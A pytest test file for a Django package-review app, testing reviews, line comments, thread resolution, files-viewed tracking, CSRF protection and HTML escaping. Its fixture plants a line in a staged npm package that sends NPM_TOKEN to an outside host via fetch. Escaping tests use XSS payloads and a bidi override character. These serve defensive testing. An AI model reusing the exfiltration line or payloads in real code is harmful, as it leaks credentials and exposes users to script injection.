"""Team review through the views: reviews (verdict, history, "reviewed against"), line comments
in the diff and on the stage page (threads, resolve, outdated), files viewed, every text
escaped; refused input kept; CSRF on every new form. (The URL walk in
tests/teams/test_url_access.py has each view's personas and methods.)"""

from __future__ import annotations

from urllib.parse import quote

import pytest
from django.test import Client
from django.urls import reverse

from reviews.audit.trail import Action
from reviews.models import (
    AuditEvent,
    FileViewed,
    LineComment,
    NotificationEvent,
    Review,
    Role,
    StageBaseline,
    StagedVersion,
)
from reviews.review import analysis as review_analysis
from reviews.review import discussion
from tests.personas import World, member_of
from tests.review.support import reviewed
from tests.support.packages import build_tarball

pytestmark = pytest.mark.django_db

LINES = "".join(f"line {n}\n" for n in range(1, 21))
CHANGED = LINES.replace("line 4\n", "fetch('https://x.example/?t=' + process.env.NPM_TOKEN)\n")


@pytest.fixture
def stage(world: World) -> StagedVersion:
    stage = world.acme_stage
    reviewed(
        stage,
        build_tarball("@acme/ui", "2.0.0", {"index.js": CHANGED, "same.js": "1\n"}),
        build_tarball("@acme/ui", "1.0.0", {"index.js": LINES, "same.js": "1\n"}),
    )
    stage.refresh_from_db()
    return stage


@pytest.fixture
def bob(world: World):
    return member_of(world.acme, "bob", Role.REVIEWER)


def client_for(user, *, csrf: bool = False) -> Client:
    client = Client(enforce_csrf_checks=csrf)
    client.force_login(user)
    return client


def stage_page(client: Client, stage: StagedVersion) -> str:
    response = client.get(reverse("reviews:stage", args=[stage.stage_id]))
    assert response.status_code == 200
    return response.content.decode()


def file_path_url(name: str, stage: StagedVersion, path: str) -> str:
    return reverse(name, args=[stage.stage_id, "-"])[:-1] + quote(path)


def file_page(client: Client, stage: StagedVersion, path: str = "index.js", **query: str) -> str:
    response = client.get(file_path_url("reviews:stage-file", stage, path), query)
    assert response.status_code == 200
    return response.content.decode()


def submit(client: Client, stage: StagedVersion, verdict: str, text: str = ""):
    return client.post(
        reverse("reviews:stage-review", args=[stage.stage_id]), {"verdict": verdict, "text": text}
    )


def comment(client: Client, stage: StagedVersion, line: int, text: str, side: str = "new"):
    return client.post(
        file_path_url("reviews:stage-comment", stage, "index.js"),
        {"side": side, "line": str(line), "text": text},
    )


# -- Reviews --------------------------------------------------------------------------------------


def test_a_review_is_recorded_audited_and_announced(stage, bob):
    response = submit(client_for(bob), stage, "request_changes", "Line 4 sends the token out.")

    assert response.status_code == 303
    assert response["Location"].endswith("#reviews")
    review = Review.objects.get(stage=stage)
    assert (review.verdict, review.author_name, review.baseline_version) == (
        "request_changes",
        "bob",
        "1.0.0",
    )
    assert review.shasum == stage.shasum
    assert review.tarball_sha256 == stage.tarball.sha256
    entry = AuditEvent.objects.get(action=Action.REVIEW_SUBMITTED)
    assert entry.payload["verdict"] == "request_changes"
    assert entry.payload["text"] == "Line 4 sends the token out."
    assert entry.username == "bob"
    assert NotificationEvent.objects.filter(kind="review.submitted", review=review).exists()


def test_a_later_review_replaces_the_verdict_and_keeps_the_history(stage, bob):
    client = client_for(bob)
    submit(client, stage, "request_changes", "Fix line 4.")
    submit(client, stage, "approve", "")

    body = stage_page(client, stage)

    assert Review.objects.filter(stage=stage).count() == 2
    assert "Fix line 4." in body
    assert "replaced by a later review" in body
    assert "Approving reviews: <strong>1</strong>" in body
    assert "Changes requested by" not in body


def test_a_review_says_what_it_was_compared_with_once_the_baseline_changed(stage, bob):
    submit(client_for(bob), stage, "approve")
    StageBaseline.objects.filter(stage=stage).update(version="1.1.0")

    assert "reviewed against 1.0.0" in stage_page(client_for(bob), stage)


def test_review_text_is_escaped_with_links_and_visible_bidi(stage, bob):
    text = "<script>alert(1)</script> see https://example.org/x?a=1&b=2 \u202eevil"
    submit(client_for(bob), stage, "comment", text)

    body = stage_page(client_for(bob), stage)

    assert "<script>alert(1)</script>" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert 'href="https://example.org/x?a=1&amp;b=2" rel="nofollow noopener"' in body
    assert "[U+202E]evil" in body
    assert "\u202e" not in body


def test_a_refused_review_keeps_what_was_typed(stage, bob):
    long = "x" * 10_001

    empty = submit(client_for(bob), stage, "request_changes", "")
    too_long = submit(client_for(bob), stage, "comment", long)

    assert empty.status_code == 400
    assert "Say what needs changing" in empty.content.decode()
    assert too_long.status_code == 400
    assert long in too_long.content.decode()
    assert not Review.objects.exists()


def test_a_decided_stage_takes_no_more_reviews(stage, bob):
    StagedVersion.objects.filter(pk=stage.pk).update(state=StagedVersion.State.APPROVED)

    response = submit(client_for(bob), stage, "approve")

    assert response.status_code == 400
    assert "already approved" in response.content.decode()
    assert not Review.objects.exists()


def test_a_viewer_gets_no_review_form(stage, world):
    body = stage_page(client_for(world.viewer), stage)

    assert 'id="review-form"' not in body
    assert "No reviews yet." in body


# -- Line comments --------------------------------------------------------------------------------


def test_line_numbers_open_a_comment_form_on_that_line(stage, bob):
    plain = file_page(client_for(bob), stage)
    opened = file_page(client_for(bob), stage, comment="new-4")

    assert "comment=new-4" in plain
    url = file_path_url("reviews:stage-file", stage, "index.js") + "?comment="
    for side, label, line in (("new", "staged", 4), ("old", "baseline", 4)):
        assert (
            f'<a class="gr-ln-link" href="{url}{side}-{line}#new-comment" '
            f'hx-get="{url}{side}-{line}" hx-target="closest .review-pane" hx-push-url="true" '
            f'title="Comment on {label} line {line}">{line}</a>'
        ) in plain
    assert 'hx-target="#diff"' in plain
    assert 'id="new-comment"' not in plain
    assert 'id="new-comment"' in opened
    assert "Comment on staged line 4" in opened
    assert '<input type="hidden" name="line" value="4">' in opened


def test_a_viewer_gets_plain_line_numbers(stage, world):
    body = file_page(client_for(world.viewer), stage, comment="new-4")

    assert "comment=new-4" not in body
    assert 'id="new-comment"' not in body


def test_a_comment_shows_under_its_line_and_on_the_stage_page(stage, bob, world):
    response = comment(client_for(bob), stage, 4, "Why does line 4 send the token out?")

    thread = LineComment.objects.get(stage=stage)
    assert response.status_code == 303
    assert response["Location"].endswith(f"#thread-{thread.pk}")
    assert len(thread.file_sha256) == 64
    assert thread.baseline_version == "1.0.0"
    diff = file_page(client_for(world.viewer), stage)
    row_of_line_4 = diff.index('data-side="new" data-line="4"')
    assert diff.index(f'id="thread-{thread.pk}"') > row_of_line_4
    assert diff.index(f'id="thread-{thread.pk}"') < diff.index('data-side="new" data-line="5"')
    page = stage_page(client_for(world.viewer), stage)
    assert "Why does line 4 send the token out?" in page
    assert "1 unresolved" in page
    assert AuditEvent.objects.filter(action=Action.COMMENT_ADDED, payload__line=4).exists()


def test_a_cached_file_table_gets_each_persons_links_and_the_newest_comments(
    stage, bob, world, monkeypatch
):
    first = file_page(client_for(world.viewer), stage)  # renders the table and caches it
    monkeypatch.setattr(
        review_analysis, "file_diff", lambda *args: pytest.fail("the table was rendered again")
    )
    comment(client_for(bob), stage, 4, "Written after the table was cached")

    again = file_page(client_for(world.viewer), stage)
    with_links = file_page(client_for(bob), stage)

    thread = LineComment.objects.get(stage=stage)
    assert f'id="thread-{thread.pk}"' not in first
    assert again.index(f'id="thread-{thread.pk}"') > again.index('data-side="new" data-line="4"')
    assert "comment=new-4" not in again
    assert "comment=new-4" in with_links
    assert f'id="thread-{thread.pk}"' in with_links


def test_a_comment_on_the_baseline_side(stage, bob, world):
    assert comment(client_for(bob), stage, 4, "It did not before.", side="old").status_code == 303

    diff = file_page(client_for(world.viewer), stage)

    thread = LineComment.objects.get()
    assert thread.side == "old"
    assert diff.index(f'id="thread-{thread.pk}"') > diff.index('data-side="old" data-line="4"')


def test_a_comment_on_a_line_that_does_not_exist_is_refused_and_kept(stage, bob):
    response = comment(client_for(bob), stage, 21, "Out of range")

    assert response.status_code == 400
    assert "has no line 21" in response.content.decode()
    assert "Out of range" in response.content.decode()
    assert not LineComment.objects.exists()


def test_replies_resolve_and_reopen(stage, bob, world):
    comment(client_for(bob), stage, 4, "Why?")
    thread = LineComment.objects.get()
    admin = client_for(world.acme_admin)
    base = f"/stages/{stage.stage_id}/threads/{thread.pk}"

    replied = admin.post(f"{base}/reply/", {"text": "Telemetry; removing it.", "from": "file"})
    resolved = admin.post(f"{base}/resolve/", {"resolved": "1"})

    assert replied.status_code == 303
    assert "/files/index.js#thread-" in replied["Location"]
    assert resolved["Location"].endswith(f"#thread-{thread.pk}")
    thread.refresh_from_db()
    assert thread.resolved_by == world.acme_admin
    page = stage_page(client_for(bob), stage)
    assert "Telemetry; removing it." in page
    assert "resolved by acme-admin" in page
    assert "0 unresolved" in page
    admin.post(f"{base}/resolve/", {"resolved": "0"})
    assert "1 unresolved" in stage_page(client_for(bob), stage)
    actions = list(AuditEvent.objects.values_list("action", flat=True))
    assert actions.count(Action.COMMENT_REPLIED) == 1
    assert actions.count(Action.COMMENT_RESOLVED) == 1
    assert actions.count(Action.COMMENT_UNRESOLVED) == 1


def test_a_refused_reply_keeps_what_was_typed(stage, bob):
    comment(client_for(bob), stage, 4, "Why?")
    thread = LineComment.objects.get()
    long = "y" * 10_001

    response = client_for(bob).post(
        f"/stages/{stage.stage_id}/threads/{thread.pk}/reply/", {"text": long}
    )

    assert response.status_code == 400
    assert long in response.content.decode()
    assert LineComment.objects.count() == 1


def test_a_thread_on_another_stage_is_not_found(stage, bob, world):
    comment(client_for(bob), stage, 4, "Why?")
    thread = LineComment.objects.get()
    other = member_of(world.pad, "pad-reviewer", Role.REVIEWER)
    url = f"/stages/{world.pad_stage.stage_id}/threads/{thread.pk}/reply/"
    world.pad.memberships.update(role=Role.ADMIN)

    assert client_for(other).post(url, {"text": "hi"}).status_code == 404


def test_a_thread_on_changed_content_is_listed_as_outdated(stage, bob, world):
    comment(client_for(bob), stage, 4, "Why?")
    LineComment.objects.update(file_sha256="0" * 64)

    diff = file_page(client_for(world.viewer), stage)
    page = stage_page(client_for(world.viewer), stage)

    assert "Other comments on this file" in diff
    assert "outdated" in page


def test_comment_text_is_escaped(stage, bob, world):
    comment(client_for(bob), stage, 4, "<img src=x onerror=alert(1)>")

    for body in (file_page(client_for(world.viewer), stage), stage_page(client_for(bob), stage)):
        assert "<img src=x" not in body
        assert "&lt;img src=x onerror=alert(1)&gt;" in body


# -- Files viewed ---------------------------------------------------------------------------------


def test_files_viewed_ticks_show_in_the_tree_for_that_person_only(stage, world, bob):
    viewer = client_for(world.viewer)
    url = file_path_url("reviews:stage-file-viewed", stage, "index.js")

    response = viewer.post(url, {"viewed": "1"})

    assert response.status_code == 303
    mine = stage_page(viewer, stage)
    assert "1 of 2 changed files viewed" in mine
    assert 'class="gr-viewed"' in mine
    assert "0 of 2 changed files viewed" in stage_page(client_for(bob), stage)
    viewer.post(url, {"viewed": "0"})
    assert "0 of 2 changed files viewed" in stage_page(viewer, stage)


def test_a_viewed_tick_lapses_when_the_file_changes(stage, world):
    viewer = client_for(world.viewer)
    viewer.post(file_path_url("reviews:stage-file-viewed", stage, "index.js"), {"viewed": "1"})
    FileViewed.objects.update(file_sha256="f" * 64)

    assert "0 of 2 changed files viewed" in stage_page(viewer, stage)


# -- CSRF -----------------------------------------------------------------------------------------


NEW_FORMS = [
    ("stage-review", {"verdict": "approve"}),
    ("stage-comment", {"side": "new", "line": "4", "text": "x"}),
    ("stage-thread-reply", {"text": "x"}),
    ("stage-thread-resolve", {"resolved": "1"}),
    ("stage-file-viewed", {"viewed": "1"}),
    ("team-policy", {"required_approvals": "3"}),
    ("staging-npm-user", {"staging_npm_user": "x"}),
]


@pytest.mark.parametrize(("name", "data"), NEW_FORMS, ids=[n for n, _ in NEW_FORMS])
def test_every_new_form_needs_the_csrf_token(stage, world, name, data):
    thread = LineComment.objects.create(
        stage=stage, author_name="x", path="index.js", side="new", line=4, body="x"
    )
    urls = {
        "stage-review": reverse("reviews:stage-review", args=[stage.stage_id]),
        "stage-comment": file_path_url("reviews:stage-comment", stage, "index.js"),
        "stage-thread-reply": reverse(
            "reviews:stage-thread-reply", args=[stage.stage_id, thread.pk]
        ),
        "stage-thread-resolve": reverse(
            "reviews:stage-thread-resolve", args=[stage.stage_id, thread.pk]
        ),
        "stage-file-viewed": file_path_url("reviews:stage-file-viewed", stage, "index.js"),
        "team-policy": reverse("reviews:team-policy", args=["acme"]),
        "staging-npm-user": reverse("reviews:staging-npm-user"),
    }
    client = client_for(world.acme_admin, csrf=True)
    before = AuditEvent.objects.count()

    response = client.post(urls[name], data)

    assert response.status_code == 403
    assert AuditEvent.objects.count() == before
    assert not Review.objects.exists()
    assert LineComment.objects.count() == 1
    assert not FileViewed.objects.exists()
    world.acme.refresh_from_db()
    assert world.acme.required_approvals == 0


# -- Every changed file on one page ---------------------------------------------------------------


def all_files(client: Client, stage: StagedVersion) -> str:
    response = client.get(reverse("reviews:stage-all-files", args=[stage.stage_id]))
    assert response.status_code == 200
    return response.content.decode()


def test_the_all_files_page_collapses_the_files_you_viewed(stage, world):
    viewer = client_for(world.viewer)
    anchor = discussion.file_anchor("index.js")

    before = all_files(viewer, stage)
    done = viewer.post(
        file_path_url("reviews:stage-file-viewed", stage, "index.js"),
        {"viewed": "1", "from": "all"},
    )
    after = all_files(viewer, stage)

    assert f'id="{anchor}" open>' in before
    assert done["Location"].endswith(f"/all-files/#{anchor}")
    assert f'id="{anchor}">' in after
    assert "1 of 2 changed files viewed" in after
    assert "same.js" not in after  # unchanged files are not listed


def test_a_pane_of_the_all_files_page_loads_with_htmx(stage, bob):
    response = client_for(bob).get(
        file_path_url("reviews:stage-file", stage, "index.js"),
        headers={"HX-Request": "true", "HX-Target": "pane-1"},
    )

    body = response.content.decode()
    assert 'id="file-pane"' in body
    assert "<html" not in body
    assert '<input type="hidden" name="from" value="all">' in body
    assert 'hx-target="closest .review-pane"' in body
    assert "hx-push-url" not in body
